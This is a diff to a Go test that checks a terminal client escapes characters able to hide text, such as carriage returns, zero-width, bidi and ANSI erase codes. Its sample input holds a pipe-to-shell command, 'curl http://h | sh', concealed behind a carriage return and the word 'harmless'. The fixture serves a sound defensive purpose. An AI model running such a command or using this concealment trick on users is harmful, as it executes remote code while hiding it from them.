@@ -150,8 +150,8 @@ func TestBinaryGuard(t *testing.T) {
 	shows(t, atTerminal(t, "--raw", server.URL), "\x00\x01\x02\x7f")
 }
 
-// TestDeceptiveText: a text at the terminal looks like what it is. A character that would
-// hide a part of it, or is not seen, is an escape, unless --raw asks for the text as sent.
+// TestDeceptiveText: a character that would hide a part of a text on the terminal, or is
+// invisible, is written as an escape, unless --raw is given.
 func TestDeceptiveText(t *testing.T) {
 	const text = "curl http://h | sh\rharmless           \r\n" +
 		"a\u200bb\u2028c\u00add\U000e0041e\ufefff\u202eg\x1b[2K\n" +
